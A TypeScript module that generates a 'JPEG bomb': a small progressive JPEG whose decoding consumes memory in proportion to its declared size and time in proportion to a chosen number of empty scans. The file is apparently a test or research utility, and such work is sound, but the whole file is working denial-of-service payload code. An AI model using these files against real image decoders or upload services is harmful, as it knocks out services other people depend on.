const marker = (code: number, content: readonly number[]): Buffer => {
  const head = Buffer.from([0xff, code, 0, 0]);
  head.writeUInt16BE(content.length + 2, 2);
  return Buffer.concat([head, Buffer.from(content)]);
};

const SOI = Buffer.from([0xff, 0xd8]);
const EOI = Buffer.from([0xff, 0xd9]);

/** Counts of codes by their length, 1 to 16 bits, then the symbols. */
const table = (id: number, symbol: number): Buffer =>
  marker(0xc4, [id, 1, ...Array.from({ length: 15 }, () => 0), symbol]);

export interface JpegBomb {
  readonly width: number;
  readonly height: number;
  /** 1 is grey, 3 colour, 4 CMYK; none of them subsampled. */
  readonly components: 1 | 3 | 4;
  /** Scans behind the first: each passes over all blocks and changes nothing. */
  readonly emptyScans: number;
}

/** Bits of a scan's blocks: where no block holds anything, as few as a count of blocks takes. */
function emptyScan(blocks: number): Buffer {
  // The only code, 0, says "so many blocks end here", and 14 bits behind it how many: 2^14 and more.
  const bits: string[] = [];
  for (let left = blocks; left > 0; ) {
    const run = Math.min(left, 32_767);
    bits.push(run >= 16_384 ? `0${(run - 16_384).toString(2).padStart(14, '0')}` : '0'.padEnd(15, '0'));
    left -= Math.max(run, 16_384);
  }
  const text = bits.join('');
  const bytes = text.padEnd(Math.ceil(text.length / 8) * 8, '1').match(/.{8}/g) ?? [];
  // A byte of ones is followed by a zero, so that it is no marker.
  const stuffed = bytes.flatMap((byte) => (byte === '11111111' ? [0xff, 0] : [Number.parseInt(byte, 2)]));
  return Buffer.concat([marker(0xda, [1, 1, 0x00, 1, 63, 0]), Buffer.from(stuffed)]);
}

/**
 * A progressive JPEG of an even grey: small, and costly to open. Its memory grows with pixels and components, its time
 * with scans (ITU-T T.81, annex G).
 */
export function jpegBomb({ width, height, components, emptyScans }: JpegBomb): Buffer {
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const ids = Array.from({ length: components }, (_, index) => index + 1);
  const frame = Buffer.alloc(6);
  frame.writeUInt8(8, 0);
  frame.writeUInt16BE(height, 1);
  frame.writeUInt16BE(width, 3);
  frame.writeUInt8(components, 5);
  const parts = [
    SOI,
    marker(0xdb, [0, ...Array.from({ length: 64 }, () => 16)]),
    marker(0xc2, [...frame, ...ids.flatMap((id) => [id, 0x11, 0])]),
    table(0x00, 0),
    table(0x10, 0xe0),
    marker(0xda, [components, ...ids.flatMap((id) => [id, 0]), 0, 0, 0]),
    // One bit for each block of each component: as bright as the one before.
    Buffer.alloc(Math.ceil((blocks * components) / 8)),
  ];
  const empty = emptyScan(blocks);
  return Buffer.concat([...parts, ...Array.from({ length: emptyScans }, () => empty), EOI]);
}
